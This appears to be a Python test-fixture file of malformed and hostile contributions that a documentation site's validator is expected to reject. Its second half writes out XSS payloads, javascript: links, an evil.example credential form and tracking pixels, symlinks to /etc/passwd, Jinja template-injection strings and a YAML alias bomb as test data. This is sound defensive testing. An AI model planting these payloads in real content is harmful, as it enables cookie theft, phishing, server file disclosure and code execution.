"""Bad contributions an editor might make, as (name, path, content) — the expected messages live in the test."""

from __future__ import annotations

GOOD_PLAYBOOK = """---
title: 測試劇本
phase: 溝通
summary: 一個用來測試的劇本。
symptoms:
  - 不知道該找誰
departments:
  - operations
prep_minutes: 10
run_minutes: 30
steps:
  - text: 第一步
    minutes: 10
    owner: operations
  - text: 第二步
    minutes: 20
    owner: operations
pitfalls:
  - 繞過負責人
checklists:
  - project-kickoff
meeting:
  type: kickoff
  minutes: 45
source: 原文〈首先，我們要做好溝通工作〉
owner: 運營部
review_by: 2027-06-30
---

內文。
"""

GOOD_CHECKLIST = """title: 測試檢核表
summary: 測試用。
phase: 溝通
owner: 運營部
review_by: 2027-06-30
sections:
  - id: first
    title: 第一段
    items:
      - id: one
        text: 第一項
      - id: two
        text: 第二項
"""


def playbook(old: str, new: str) -> str:
    """The good playbook with one edit."""
    assert old in GOOD_PLAYBOOK, old
    return GOOD_PLAYBOOK.replace(old, new, 1)


def checklist(old: str, new: str) -> str:
    """The good checklist with one edit."""
    assert old in GOOD_CHECKLIST, old
    return GOOD_CHECKLIST.replace(old, new, 1)


P = "playbooks/test-play.md"
C = "checklists/test-list.yml"

BAD = [
    ("bad-yaml", P, playbook("title: 測試劇本", "title: [測試劇本")),
    ("tab-indent", P, playbook("  - 不知道該找誰", "\t- 不知道該找誰")),
    ("byte-order-mark", P, "\ufeff" + GOOD_PLAYBOOK),
    ("big5", P, GOOD_PLAYBOOK.encode("big5")),
    ("wrong-type-minutes", P, playbook("run_minutes: 30", "run_minutes: 三十")),
    ("quoted-number", P, playbook("prep_minutes: 10", 'prep_minutes: "10"')),
    ("empty-title", P, playbook("title: 測試劇本", 'title: ""')),
    ("unknown-field", P, playbook("owner: 運營部", "owner: 運營部\ncolour: 藍色")),
    ("misspelled-field", P, playbook("pitfalls:", "pitfall:")),
    ("missing-field", P, playbook("summary: 一個用來測試的劇本。\n", "")),
    ("unknown-department", P, playbook("departments:\n  - operations", "departments:\n  - operations\n  - salse")),
    ("unknown-step-owner", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: sales")),
    ("unknown-checklist", P, playbook("  - project-kickoff", "  - project-kickof")),
    ("minutes-do-not-add-up", P, playbook("run_minutes: 30", "run_minutes: 35")),
    ("html-in-field", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個<b>重要</b>的劇本。")),
    ("script-in-title", P, playbook("title: 測試劇本", "title: <script>alert(1)</script>")),
    ("template-code", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個 {{ config }} 劇本。")),
    ("over-long-title", P, playbook("title: 測試劇本", "title: " + "很長" * 31)),
    ("simplified-characters", P, playbook("summary: 一個用來測試的劇本。", "summary: 这个剧本用来测试。")),
    ("date-wrong-format", P, playbook("review_by: 2027-06-30", "review_by: 2027/06/30")),
    ("impossible-date", P, playbook("review_by: 2027-06-30", "review_by: 2027-02-30")),
    ("bad-phase", P, playbook("phase: 溝通", "phase: 溝通協調")),
    ("bad-when", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: operations\n    when: T21")),
    ("bad-mode", P, playbook("    minutes: 20\n    owner: operations", "    minutes: 20\n    owner: operations\n    mode: online")),
    ("prepare-unknown-department", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    salse:\n      - 帶預算上限")),
    ("prepare-not-attending", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    sales:\n      - 帶預算上限")),
    ("prepare-not-a-list", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    operations: 帶預算上限")),
    ("prepare-too-long", P, playbook("  minutes: 45", "  minutes: 45\n  prepare:\n    operations:\n      - " + "帶" * 81)),
    ("slug-in-file", P, playbook("title: 測試劇本", "slug: test-play\ntitle: 測試劇本")),
    ("duplicate-key", P, playbook("owner: 運營部", "owner: 運營部\nowner: 銷售部")),
    ("no-front-matter", P, GOOD_PLAYBOOK.removeprefix("---\n")),
    ("unclosed-front-matter", P, GOOD_PLAYBOOK.replace("\n---\n\n內文。", "\n\n內文。")),
    ("empty-file", P, ""),
    ("not-a-mapping", C, "- 一\n- 二\n"),
    ("wrong-folder", "playbooks/test-list.yml", GOOD_CHECKLIST),
    ("subfolder", "playbooks/drafts/test-play.md", GOOD_PLAYBOOK),
    ("bad-file-name", "playbooks/Test Play.md", GOOD_PLAYBOOK),
    ("duplicate-item-id", C, checklist("      - id: two", "      - id: one")),
    ("department-and-phase", C, checklist("phase: 溝通", "phase: 溝通\ndepartment: sales")),
    ("bad-field-type", C, checklist("        text: 第二項", "        text: 第二項\n    fields:\n      - id: amount\n        label: 金額\n        type: money")),
    ("bad-item-id", C, checklist("      - id: two", "      - id: Two Item")),
    ("empty-section", C, checklist("    items:\n      - id: one\n        text: 第一項\n      - id: two\n        text: 第二項\n", "")),
]


# --- hostile or careless contributions: content is data, never code (issue 13) ---------------------------

from pathlib import Path  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
D = "docs/test-page.md"


class Symlink(str):
    """A contribution that is a symbolic link to this target instead of a file."""


def body(text: str) -> str:
    """The good playbook with text as its prose."""
    return GOOD_PLAYBOOK.replace("\n內文。\n", "\n" + text + "\n")


def page(text: str, front: str = "title: 測試頁") -> str:
    """A hand-written page under docs/."""
    return f"---\n{front}\n---\n\n{text}\n"


def first_playbook() -> tuple[str, int | None]:
    """A real playbook (file name and path_order) to collide with."""
    for path in sorted((ROOT / "playbooks").glob("*.md")):
        for line in path.read_text(encoding="utf-8").split("\n"):
            if line.startswith("path_order:"):
                return path.stem, int(line.split(":")[1])
    raise LookupError("no playbook declares path_order")


TAKEN_SLUG, TAKEN_ORDER = first_playbook()

BAD += [
    ("body-script", P, body("說明。<script>alert(document.cookie)</script>")),
    ("body-script-uppercase", P, body("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
    ("body-iframe", P, body('<iframe src="https://evil.example/"></iframe>')),
    ("body-meta-refresh", P, body('<meta http-equiv="refresh" content="0;url=https://evil.example/">')),
    ("body-base", P, body('<base href="https://evil.example/">')),
    ("body-link-stylesheet", P, body('<link rel="stylesheet" href="https://evil.example/x.css">')),
    ("body-style-element", P, body("<style>body { display: none }</style>")),
    ("body-object", P, body('<object data="https://evil.example/x.swf"></object>')),
    ("body-embed", P, body('<embed src="https://evil.example/x.swf">')),
    ("body-form", P, body('<form action="https://evil.example/"><input name="pw"></form>')),
    ("body-svg-onload", P, body("<svg onload=alert(1)></svg>")),
    ("body-event-handler", P, body('<span onmouseover="alert(1)">滑過來</span>')),
    ("body-style-attribute", P, body('<span style="position:fixed;top:0">假公告</span>')),
    ("body-javascript-link", P, body("[點我](javascript:alert(1))")),
    ("body-javascript-entity-tab", P, body("[點我](java&#9;script:alert(1))")),
    ("body-javascript-mixed-case", P, body('<a href="JaVaScRiPt:alert(1)">點我</a>')),
    ("body-vbscript-link", P, body("[點我](vbscript:msgbox(1))")),
    ("body-data-image", P, body("![圖](data:image/svg+xml;base64,PHN2Zz4=)")),
    ("body-javascript-reference", P, body("[點我][x]\n\n[x]: javascript:alert(1)")),
    ("body-javascript-autolink", P, body("<javascript:alert(1)>")),
    ("body-attr-list-handler", P, body('## 小標 {: onmouseover="alert(1)" }')),
    ("body-attr-list-style", P, body("一段話。\n{: style=\"display:none\" }")),
    ("body-external-image", P, body("![追蹤像素](https://evil.example/pixel.png)")),
    ("body-protocol-relative-image", P, body('<img src="//evil.example/pixel.png" alt="">')),
    ("body-srcset", P, body('<img src="a.png" srcset="https://evil.example/x.png 2x" alt="">')),
    ("body-external-link", P, body("[公司公告](https://evil.example/login)")),
    ("body-unclosed-tag", P, body('<img src="a.png"\nonerror="alert(1)">')),
    ("body-internal-placeholder", P, body('<div data-hb-slot="0"></div>')),
    ("body-duplicate-heading-id", P, body("## 甲 {#same}\n\n## 乙 {#same}")),
    ("body-generated-heading-id", P, body("## 我的步驟 {#steps}")),
    ("body-long-line", P, body("很" * 5001)),
    ("body-many-brackets", P, body("[" * 600)),
    ("file-too-large", P, body(("一段很長的說明文字。" * 50 + "\n\n") * 450)),
    ("yaml-anchor", P, playbook("symptoms:\n  - 不知道該找誰", "symptoms: &s\n  - 不知道該找誰")),
    ("yaml-alias-bomb", C, "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                           "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n" + GOOD_CHECKLIST),
    ("title-newline", P, playbook("title: 測試劇本", 'title: "測試\\n劇本"')),
    ("title-zero-width", P, playbook("title: 測試劇本", 'title: "測試\\u200b劇本"')),
    ("title-bidi-override", P, playbook("title: 測試劇本", 'title: "測試\\u202e本劇"')),
    ("title-nul", P, playbook("title: 測試劇本", 'title: "測試\\0劇本"')),
    ("summary-jinja-comment", P, playbook("summary: 一個用來測試的劇本。", "summary: 一個 {# 註解 #} 劇本。")),
    ("section-title-markdown-link", C, checklist("    title: 第一段", "    title: 請先登入[公司系統](https://evil.example)")),
    ("item-text-attr-list", C, checklist("        text: 第二項", "        text: '第二項 {: onclick=alert(1) }'")),
    ("meeting-too-short", P, playbook("  minutes: 45", "  minutes: 5")),
    ("duplicate-path-order", P, playbook("review_by: 2027-06-30", f"review_by: 2027-06-30\npath_order: {TAKEN_ORDER}")),
    ("content-symlink", "playbooks/leak.md", Symlink("/etc/passwd")),
    ("docs-symlink", "docs/leak.md", Symlink("/etc/passwd")),
    ("docs-globals-escape", D, page("{{ phase_diagram.__globals__ }}")),
    ("docs-class-escape", D, page("正文\n\n{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    ("docs-config-leak", D, page("{{ config }}")),
    ("docs-include-file", D, page('{% include "../mkdocs.yml" %}')),
    ("docs-template-syntax", D, page("{{ phase_diagram( }}")),
    ("docs-macro-bad-argument", D, page('{{ swimlane("no-such-playbook") }}')),
    ("docs-script", D, page("<script>alert(1)</script>")),
    ("docs-bad-review-by", D, page("正文", "title: 測試頁\nreview_by: 2027/06/30")),
    ("docs-generated-field", D, page("正文", "title: 測試頁\nhb_kind: playbooks\nhb_id: one-channel")),
    ("docs-unknown-field", D, page("正文", "title: 測試頁\nrender_macro: true")),
    ("docs-bad-front-matter", D, page("正文", "title: [測試頁")),
    ("docs-shadowed-page", "docs/playbooks/index.md", page("我的劇本索引")),
]


def case_with_nan() -> tuple[str, int]:
    """A real case whose first retrospective target is YAML's not-a-number, and that line."""
    path = next(p for p in sorted((ROOT / "cases").glob("*.md")) if "      target: " in p.read_text(encoding="utf-8"))
    lines = path.read_text(encoding="utf-8").split("\n")
    line = next(n for n, text in enumerate(lines) if text.startswith("      target: "))
    lines[line] = "      target: .nan"
    return "\n".join(lines), line + 1


NAN_CASE, NAN_LINE = case_with_nan()
BAD += [("number-not-a-number", "cases/nan-case.md", NAN_CASE)]
